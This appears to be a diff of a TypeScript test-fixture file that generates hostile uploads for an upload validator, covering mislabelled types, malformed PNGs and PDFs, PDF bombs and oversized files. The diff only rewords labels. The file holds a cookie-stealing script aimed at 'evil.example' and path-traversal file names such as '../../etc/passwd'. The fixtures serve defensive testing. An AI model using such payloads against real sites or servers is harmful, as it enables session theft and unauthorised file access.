@@ -2,14 +2,14 @@ import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { aPng, pngChunk } from './pictures.ts';
 
-/** An upload that must be refused; `says` are the codes that may say why. */
+/** An upload that must be refused; `says` are the codes that may be given as the reason. */
 export type HostileFile = { name: string; type: string; fileName?: string; bytes: Buffer; says: string[] };
 
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
 const unreadable = ['FILE_UNREADABLE'];
 const wrongType = ['FILE_TYPE'];
 
-/** A PDF of these objects, with a right table of them. */
+/** A PDF of these objects, with a correct cross-reference table. */
 export function aPdf(objects: string[], { trailer = '', after = '' } = {}): Buffer {
   const parts = ['%PDF-1.7\n'];
   const places: number[] = [];
@@ -61,7 +61,7 @@ function aZip(name: string, content: Buffer): Buffer {
   return Buffer.concat([local, Buffer.from(name), data, end]);
 }
 
-/** A PNG that says it has these sides, with few bytes behind it. */
+/** A PNG whose header claims these sides, with only a few bytes of data. */
 function pngSaying(width: number, height: number): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -122,7 +122,7 @@ const foreign: [string, Buffer][] = [
   ['a program', Buffer.from('\x7fELF\x02\x01\x01\0\0\0', 'latin1')],
 ];
 
-/** At least 200 uploads that are not what they say or would harm whoever reads them; always the same. */
+/** At least 200 uploads that are not what they claim to be or are harmful to read; the same in every run. */
 export async function hostileFiles(): Promise<HostileFile[]> {
   const given = await images();
   const good = [
@@ -144,14 +144,14 @@ export async function hostileFiles(): Promise<HostileFile[]> {
         ...wrongType,
       ]);
     for (const [other] of good) {
-      if (other !== type) add(`${type} said to be ${other}`, other, bytes, wrongType);
+      if (other !== type) add(`${type} declared as ${other}`, other, bytes, wrongType);
     }
     for (const text of ['text/plain', 'text/markdown', 'text/csv'])
-      add(`${type} said to be ${text}`, text, bytes, wrongType);
-    add(`${type} with nothing in it`, type, Buffer.alloc(0), unreadable);
+      add(`${type} declared as ${text}`, text, bytes, wrongType);
+    add(`${type} without content`, type, Buffer.alloc(0), unreadable);
     for (const [what, alone] of foreign) {
       if (!(type === 'application/pdf' && what === 'a PDF'))
-        add(`${what} said to be ${type}`, type, alone, wrongType);
+        add(`${what} declared as ${type}`, type, alone, wrongType);
     }
     add(`${type} of noise`, type, Buffer.concat([bytes.subarray(0, 12), Buffer.alloc(500, 7)]), unreadable);
   }
@@ -169,7 +169,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
   for (const [type, bytes] of kinds) {
     add(type, type, bytes, wrongType);
     for (const other of ['image/png', 'image/jpeg', 'application/pdf']) {
-      if (type !== 'application/octet-stream') add(`${type} said to be ${other}`, other, bytes, wrongType);
+      if (type !== 'application/octet-stream') add(`${type} declared as ${other}`, other, bytes, wrongType);
     }
   }
   for (const [width, height] of [
@@ -182,7 +182,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
   ] as const)
     add(`a PNG of ${width} × ${height}`, 'image/png', pngSaying(width, height), unreadable);
   add('a PNG with too few pixels', 'image/png', pngSaying(5000, 5000), unreadable);
-  add('a moving WebP', 'image/webp', given.moving, unreadable);
+  add('an animated WebP', 'image/webp', given.moving, unreadable);
   for (const megabytes of [60, 200, 400])
     add(`a PDF of ${megabytes} MB`, 'application/pdf', pdfBomb(megabytes * 1024 * 1024), unreadable);
   for (const [what, facts] of scriptsInPdf)
@@ -191,7 +191,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
   add('a PDF without pages', 'application/pdf', aPdf(['<< /Type /Catalog >>']), unreadable);
   const loop = pdfPage('x');
   loop[1] = '<< /Type /Pages /Kids [2 0 R] /Count 1 >>';
-  add('a PDF whose pages go round', 'application/pdf', aPdf(loop), unreadable);
+  add('a PDF whose page tree is a loop', 'application/pdf', aPdf(loop), unreadable);
   for (const bytes of [
     [0xff, 0xfe, 65, 0],
     [0xc0, 0xaf],
@@ -201,7 +201,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     [32, 10],
   ])
     for (const type of ['text/plain', 'text/csv', 'text/markdown'])
-      add(`bytes ${bytes} said to be ${type}`, type, Buffer.from(bytes), unreadable);
+      add(`bytes ${bytes} declared as ${type}`, type, Buffer.from(bytes), unreadable);
   add('a file of 11 MB', 'text/plain', Buffer.alloc(11 * 1024 * 1024, 97), ['FILE_TOO_LARGE']);
   for (const path of ['../../etc/passwd', 'C:\\Windows\\x.exe', '/dev/null', '\0', '%00.png', '..%2f..%2fx'])
     add(`damaged, named ${JSON.stringify(path)}`, 'image/png', given.png.subarray(0, 40), unreadable, path);
